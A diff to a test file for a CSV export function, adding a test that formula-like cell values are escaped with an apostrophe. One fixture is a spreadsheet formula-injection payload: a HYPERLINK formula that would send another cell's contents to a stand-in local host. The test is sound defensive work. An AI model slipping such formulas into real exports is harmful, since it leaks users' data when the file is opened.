@@ -193,6 +193,24 @@ describe('CSV', () => {
     expect(csv.slice(1)).toBe('name,note,count,empty\r\nسعید تاجیک,"a, b",1234.5,\r\n"say ""hi""","two\nlines",0,\r\n');
     expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
   });
+
+  it('keeps a registry text that a spreadsheet would run as a formula a text, and numbers as they are', () => {
+    const csv = toCsv(
+      ['fullName', 'code', 'balance'],
+      [
+        { fullName: '=HYPERLINK("http://127.0.0.1:6199/?"&B2,"click")', code: '0061234508', balance: -5 },
+        { fullName: '+1+1', code: '@SUM(A1)', balance: 0 },
+        { fullName: '-2', code: '\tx', balance: null },
+      ],
+    );
+    expect(csv.slice(1).split('\r\n')).toEqual([
+      'fullName,code,balance',
+      `"'=HYPERLINK(""http://127.0.0.1:6199/?""&B2,""click"")",0061234508,-5`,
+      "'+1+1,'@SUM(A1),0",
+      "'-2,'\tx,",
+      '',
+    ]);
+  });
 });
 
 describe('paging a connection for its download', () => {
